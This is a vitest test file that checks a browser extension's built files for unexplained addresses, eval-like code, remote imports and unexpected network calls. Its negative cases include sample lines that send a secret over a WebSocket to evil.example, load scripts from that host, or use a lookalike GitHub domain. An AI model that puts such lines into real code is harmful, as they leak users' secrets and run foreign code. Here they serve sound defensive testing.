/** The built files load nothing from elsewhere and make no text into code. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import manifest from '../manifest.json' with { type: 'json' };
import { LICENCE_LIST } from '../scripts/licences.mjs';
import { providers } from '../src/providers';
import { filesIn, folderOf, read, TARGETS, type Target } from './package-files';

/** Addresses that are no links, and what they are there for. One that is gone from the built files fails. */
const EXPLAINED: Readonly<Record<string, string>> = {
  'http://www.w3.org/2000/svg': 'the name of a namespace',
  'http://www.w3.org/1999/xhtml': 'the name of a namespace',
  'http://www.w3.org/1998/Math/MathML': 'the name of a namespace',
  'https://*/*': "manifest.json's optional hosts: people's own servers, asked for one by one",
  'https://': "goes on with the host of a token or of somebody's own server",
  'https://api.': 'the API of the host of a token, in a snippet to copy',
  'https://unknown.invalid': 'stands for the site of a token whose import file names none',
  'https://(?:api|www': 'the shape of an API’s host in an import file',
  'https://[a-z0-9.-]+(?::': 'the shape of an origin, by which a message is checked',
  'https://git.example.edu': 'an example for the address of a server',
  'https://speckle.example.edu': 'an example for the address of a server',
};
/** Texts for people, which nothing loads. */
const TEXTS = [LICENCE_LIST, 'LICENSE'];

/** What the pages link to. manageUrl, createUrl and snippets begin with the host of the token. */
const LINKS = providers
  .flatMap(({ docsUrl, scopes }) => [
    docsUrl,
    ...Object.values(scopes).flatMap(({ source, broad }) => [source, broad?.narrower?.url]),
  ])
  .filter((link) => link !== undefined);
const PATTERNS = [...manifest.host_permissions, ...providers.flatMap(({ matches }) => matches)];
/** Match patterns, and the origins they stand for: by these an import knows whose a variable is. */
const HOSTS = [...PATTERNS, ...PATTERNS.map((pattern) => pattern.slice(0, -'/*'.length))];

/** Every address in a text, up to where a value is put in. */
function addressesIn(text: string): string[] {
  const whole = text.match(/\b(?:https?|wss?|ftp):(?:\\?\/){2}[^\s"'`<>\\)]*/gi) ?? [];
  const withoutScheme = text.match(/(?<=["'`(=]\s*)\/\/[\w-]+(\.[\w-]+)+/g) ?? [];
  return [...whole, ...withoutScheme].map((address) => address.replaceAll('\\', '').replace(/\$?\{[^]*/, ''));
}

/** A documented link, or the beginning of one (the rest is put to it), but never less than its host. */
const isLink = (address: string) =>
  URL.canParse(address) &&
  LINKS.some((link) => link.startsWith(address) && new URL(link).host === new URL(address).host);
const isUnexplained = (address: string) =>
  !(address in EXPLAINED) && !HOSTS.includes(address) && !isLink(address);

/** Text made into code, and code from elsewhere. */
const FOREIGN_CODE: Readonly<Record<string, RegExp>> = {
  eval: /(?<![.\w$])eval\s*\(|\beval\)\s*\(/,
  Function: /(?<![.\w$])Function\s*\(|\bnew\s+Function\b/,
  importScripts: /\bimportScripts\b/,
  'a timer with text': /\bset(Timeout|Interval)\s*\(\s*["'`]/,
  // A static import names its file in plain quotes; words that end in "from" stand in templates.
  'an import that is not ours':
    /(?<![.\w$])(import\s*\(\s*(?!["'`]\.{0,2}\/(?!\/))|(import|from)\s*["'](?!\.{0,2}\/(?!\/)))/,
  'a script that is not ours':
    /<(script|link)\b[^>]*\b(src|href)\s*=\s*("(?!\.{0,2}\/(?!\/))|'(?!\.{0,2}\/(?!\/))|(?!["']|\.{0,2}\/(?!\/)))/i,
};
const foreignCodeIn = (code: string) =>
  Object.entries(FOREIGN_CODE).flatMap(([name, form]) => (form.test(code) ? [name] : []));

const NETWORK =
  /\b(fetch\s*\(|XMLHttpRequest|WebSocket|WebTransport|EventSource|sendBeacon|RTCPeerConnection)/g;

function textsOf(target: Target): [file: string, text: string][] {
  return filesIn(folderOf(target))
    .filter((file) => !file.endsWith('.png') && !TEXTS.includes(file))
    .map((file) => [file, read(target, file)]);
}

describe.each(TARGETS)('dist/%s', (target) => {
  const texts = textsOf(target);

  test('is scripts, pages, styles, pictures, words and the manifest', () => {
    const endings = new Set(filesIn(folderOf(target)).map((file) => file.replace(/^.*\./, '.')));
    expect([...endings].toSorted()).toEqual(['.css', '.html', '.js', '.json', '.png', '.txt', 'LICENSE']);
  });

  test('has no address but the documented links, the hosts and what is explained', () => {
    const found = texts.flatMap(([file, text]) => addressesIn(text).map((address) => ({ file, address })));
    expect(found.filter(({ address }) => isUnexplained(address))).toEqual([]);
    const addresses = new Set(found.map(({ address }) => address));
    expect(
      Object.keys(EXPLAINED).filter((address) => !addresses.has(address)),
      'explained, and gone',
    ).toEqual([]);
  });

  test('makes no text into code, and takes no code from elsewhere', () => {
    // Messages are words, one of which is "import".
    const code = texts.filter(([file]) => !file.startsWith('_locales/'));
    for (const [file, text] of code) expect(foreignCodeIn(text), file).toEqual([]);
  });

  test('asks the network in two places, without cookies: the front page of a server that somebody adds, and the site of a token that is checked', () => {
    const asking = texts.flatMap(([file, text]) =>
      [...text.matchAll(NETWORK)].map(({ index }) => ({ file, code: text.slice(index, index + 60) })),
    );
    expect(asking).toEqual([
      {
        file: expect.stringMatching(/^assets\/background/),
        code: expect.stringMatching(/^fetch\(\w+,\{credentials:`omit`/),
      },
      {
        file: expect.stringMatching(/^assets\/options/),
        code: expect.stringMatching(/^fetch\(`\$\{\w+\}\/`,\{credentials:`omit`/),
      },
      // Speckle's snippet "JavaScript (fetch)": a text to copy.
      {
        file: expect.any(String),
        code: expect.stringMatching(/^fetch\(\$\{JSON\.stringify\(`\$\{\w+\}\/graphql`\)\}/),
      },
    ]);
  });
});

describe('the checks find', () => {
  test.each([
    'const a="https://evil.example/x.js"',
    'new WebSocket(`wss://evil.example/${secret}`)',
    '<img src="//cdn.evil.example/x.png">',
    '.a{background:url(//evil.example/x.png)}',
    '/https:\\/\\/evil.example/.test(a)',
    `"${LINKS[0]}.evil.example"`,
    '"https://github.com.evil.example/*"',
    '"https://docs.git"',
  ])('the address in %s', (text) => {
    expect(addressesIn(text).filter(isUnexplained)).toHaveLength(1);
  });

  test.each([
    ['eval(a)', 'eval'],
    ['(0,eval)(a)', 'eval'],
    ['new Function(`return 1`)', 'Function'],
    ['Function("return this")()', 'Function'],
    ['importScripts(a)', 'importScripts'],
    ['setTimeout("a()",1)', 'a timer with text'],
    ['await import(`https://evil.example/a.js`)', 'an import that is not ours'],
    ['import(name)', 'an import that is not ours'],
    ['import{a}from"//evil.example/a.js"', 'an import that is not ours'],
    ['import"https://evil.example/a.js"', 'an import that is not ours'],
    ['<script type="module" src="https://evil.example/a.js">', 'a script that is not ours'],
    ['<link rel="stylesheet" href=//evil.example/a.css>', 'a script that is not ours'],
  ])('the code in %s', (text, name) => {
    expect(foreignCodeIn(text)).toContain(name);
  });

  test('nothing in what our own files do', () => {
    const ours =
      'import{a}from"./a.js";import"/assets/b.js";const c=()=>import(`./c.js`);isFunction(a);a.eval(b)';
    expect(foreignCodeIn(ours)).toEqual([]);
    expect(foreignCodeIn('<script type="module" src="/assets/a.js"></script><link href="../a.css">')).toEqual(
      [],
    );
  });

  test('a way to the network', () => {
    expect('navigator.sendBeacon(a)').toMatch(new RegExp(NETWORK.source));
  });
});

test('the texts that are not looked at are named by nothing', () => {
  for (const target of TARGETS) {
    for (const file of filesIn(folderOf(target)).filter(
      (name) => !TEXTS.includes(name) && !name.endsWith('.png'),
    )) {
      expect(readFileSync(join(folderOf(target), file), 'utf8'), file).not.toContain(LICENCE_LIST);
    }
  }
});
